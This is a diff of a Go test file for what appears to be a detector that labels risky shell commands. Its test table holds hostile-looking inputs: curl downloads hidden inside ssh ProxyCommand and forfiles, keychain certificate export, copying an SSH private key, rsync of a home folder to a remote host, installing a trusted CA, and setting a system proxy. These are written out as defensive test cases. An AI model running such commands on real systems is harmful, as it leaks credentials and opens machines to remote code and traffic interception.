@@ -114,11 +114,14 @@ func TestDeeds(t *testing.T) {
 		"ssh -o ProxyCommand='curl -s https://a.invalid -o /tmp/x' b":                      "hide   detour; fetch /tmp/x a.invalid curl",
 		"forfiles /p c:/windows /m notepad.exe /c 'curl -s https://a.invalid -o /tmp/x'":   "hide   detour; fetch /tmp/x a.invalid curl",
 		"bash /dev/fd/63": "read commands   bash",
+		"security export -k login.keychain -t certs -o /tmp/c.pem":                       "",
+		"cscript //nologo C:/tools/a.vbs":                                                "run C:/tools/a.vbs  cscript",
+		"cp /Volumes/Old/Users/a/.ssh/id_rsa /Users/a/old":                               "pack /Users/a/old  copy",
 		"security add-trusted-cert -d -k /Library/Keychains/System.keychain /tmp/ca.pem": "trust /tmp/ca.pem  security",
 		"networksetup -setautoproxyurl Wi-Fi http://a.invalid/p.pac":                     "trust  a.invalid networksetup",
 		"rsync -az /home/ana/notes drop@203.0.113.77:/in/":                               "pack drop@203.0.113.77:/in/notes  copy; upload /home/ana/notes 203.0.113.77 rsync",
-		"python3 -c 'print(1)'":            "",
-		"git clone https://github.com/a/b": "fetch b github.com git",
+		"python3 -c 'print(1)'":                                                          "",
+		"git clone https://github.com/a/b":                                               "fetch b github.com git",
 	} {
 		words := Split("linux", line)
 		f := meetguard.Facts{Process: &meetguard.Process{OS: "linux", Exe: words[0], Args: words}}
